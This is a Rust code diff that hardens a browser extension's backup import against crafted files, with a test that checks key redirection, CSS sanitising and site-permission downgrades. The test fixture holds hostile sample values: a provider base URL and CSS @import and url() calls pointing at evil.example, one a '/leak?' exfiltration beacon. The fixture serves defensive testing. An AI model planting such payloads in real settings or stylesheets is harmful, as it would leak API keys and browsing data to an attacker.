@@ -1,7 +1,12 @@
 //! Export and import of what Dusk keeps in chrome.storage.local: settings, per-site dark-mode
 //! choices and themes, agent settings. API keys are never exported; an import keeps the keys
-//! already stored.
+//! already stored. A backup file is untrusted input: it can't point a stored key at another
+//! server, bring CSS the dark-mode sanitiser would refuse, or grant the agent `allow` on a site.
 
+use crate::browser_agent::mode::{AgentSettings, STORAGE_KEY as AGENT_KEY};
+use crate::browser_agent::safety::SitePolicy;
+use crate::dark_agent::sanitize::sanitize;
+use crate::dark_agent::versions::SiteThemes;
 use crate::settings::{Settings, STORAGE_KEY as SETTINGS_KEY};
 use serde_json::{json, Map, Value};
 
@@ -26,22 +31,66 @@ pub fn export(stored: &Map<String, Value>) -> Value {
     json!({ "format": FORMAT, "version": crate::VERSION, "data": data })
 }
 
-/// What to write for `backup`: its known keys, with each provider's stored API key kept.
+/// What to write for `backup`: its known keys, made safe (see the module's note).
 pub fn import(stored: &Map<String, Value>, backup: &Value) -> Result<Map<String, Value>, String> {
     if backup.get("format").and_then(Value::as_str) != Some(FORMAT) {
         return Err("this file is not a Dusk backup".into());
     }
     let data = backup.get("data").and_then(Value::as_object).ok_or("the backup has no data")?;
-    let mut out: Map<String, Value> = data.iter().filter(|(k, _)| kept(k)).map(|(k, v)| (k.clone(), v.clone())).collect();
-    if let Some(incoming) = out.get(SETTINGS_KEY).cloned() {
-        let mut s: Settings = serde_json::from_value(incoming).map_err(|e| format!("the backup's settings are malformed: {e}"))?;
-        let current = Settings::from_stored(stored.get(SETTINGS_KEY).cloned());
-        for p in &mut s.providers {
-            p.api_key = current.providers.iter().find(|c| c.kind == p.kind).map(|c| c.api_key.clone()).unwrap_or_default();
-        }
-        out.insert(SETTINGS_KEY.into(), serde_json::to_value(s).map_err(|e| e.to_string())?);
+    let mut out = Map::new();
+    for (key, value) in data.iter().filter(|(k, _)| kept(k)) {
+        let value = match key.as_str() {
+            SETTINGS_KEY => settings(stored, value)?,
+            AGENT_KEY => agent_settings(value),
+            k if k.starts_with("dark_theme:") => match value.as_str().map(sanitize) {
+                Some(Ok(clean)) => Value::String(clean.css),
+                _ => continue,
+            },
+            k if k.starts_with("dark_history:") => dark_history(value),
+            _ => value.clone(),
+        };
+        out.insert(key.clone(), value);
     }
     Ok(out)
+}
+
+/// The file's providers, each with the stored key only where it goes to the same server; stored
+/// providers the file doesn't mention stay as they are.
+fn settings(stored: &Map<String, Value>, incoming: &Value) -> Result<Value, String> {
+    let mut s: Settings = serde_json::from_value(incoming.clone()).map_err(|e| format!("the backup's settings are malformed: {e}"))?;
+    let current = Settings::from_stored(stored.get(SETTINGS_KEY).cloned());
+    for p in &mut s.providers {
+        let same_server = current.providers.iter().find(|c| c.kind == p.kind && c.effective_base_url() == p.effective_base_url());
+        p.api_key = same_server.map(|c| c.api_key.clone()).unwrap_or_default();
+    }
+    for c in &current.providers {
+        if !s.providers.iter().any(|p| p.kind == c.kind) {
+            s.providers.push(c.clone());
+        }
+    }
+    serde_json::to_value(s).map_err(|e| e.to_string())
+}
+
+/// A site's `allow` is only ever set by hand in options: an import asks instead.
+fn agent_settings(incoming: &Value) -> Value {
+    let mut a = AgentSettings::from_stored(Some(incoming.clone()));
+    a.sites.values_mut().filter(|p| **p == SitePolicy::Allow).for_each(|p| *p = SitePolicy::AlwaysAsk);
+    serde_json::to_value(a).unwrap_or(Value::Null)
+}
+
+/// Each stored version's CSS goes through the sanitiser; versions it refuses are dropped.
+fn dark_history(incoming: &Value) -> Value {
+    let mut h: SiteThemes = serde_json::from_value(incoming.clone()).unwrap_or_default();
+    let active = h.active.and_then(|i| h.versions.get(i)).map(|v| v.css.clone());
+    h.versions.retain_mut(|v| match sanitize(&v.css) {
+        Ok(clean) => {
+            v.css = clean.css;
+            true
+        }
+        Err(_) => false,
+    });
+    h.active = active.and_then(|css| sanitize(&css).ok()).and_then(|clean| h.versions.iter().position(|v| v.css == clean.css));
+    serde_json::to_value(h).unwrap_or(Value::Null)
 }
 
 #[cfg(test)]
@@ -71,5 +120,28 @@ mod tests {
         let mut junk = backup.clone();
         junk["data"]["chat_session"] = json!("x");
         assert!(!import(&Map::new(), &junk).unwrap().contains_key("chat_session"));
+    }
+
+    #[test]
+    fn a_crafted_file_cant_redirect_a_key_bring_remote_css_or_allow_a_site() {
+        let crafted = json!({"format": FORMAT, "data": {
+            "settings": {"provider": "openai", "providers": [{"kind": "openai", "base_url": "https://evil.example/v1", "model": "x"}]},
+            "dark_theme:a.example": "@import url(https://evil.example/x.css); body { background: url(https://evil.example/leak?) }",
+            "dark_history:a.example": {"versions": [{"css": "a { color: red }"}, {"css": "b { background: url(https://evil.example/p) }"}], "active": 1},
+            "agent_settings": {"sites": {"bank.example": "allow", "shop.example": "block"}},
+        }});
+        let mut with_two = stored();
+        with_two["settings"]["providers"].as_array_mut().unwrap().push(json!({"kind": "anthropic", "api_key": "sk-ant"}));
+        let written = import(&with_two, &crafted).unwrap();
+        let s = Settings::from_stored(written.get("settings").cloned());
+        let openai = s.providers.iter().find(|p| p.kind == crate::llm::ProviderKind::Openai).unwrap();
+        assert_eq!(openai.api_key, "", "the stored key does not follow a new base URL");
+        assert_eq!(s.providers.iter().find(|p| p.kind == crate::llm::ProviderKind::Anthropic).unwrap().api_key, "sk-ant", "providers the file omits stay");
+        let theme = written["dark_theme:a.example"].as_str().unwrap();
+        assert!(!theme.contains("evil.example"), "{theme}");
+        let history: SiteThemes = serde_json::from_value(written["dark_history:a.example"].clone()).unwrap();
+        assert!(history.versions.iter().all(|v| !v.css.contains("evil.example")));
+        assert_eq!(written["agent_settings"]["sites"]["bank.example"], "always_ask");
+        assert_eq!(written["agent_settings"]["sites"]["shop.example"], "block");
     }
 }
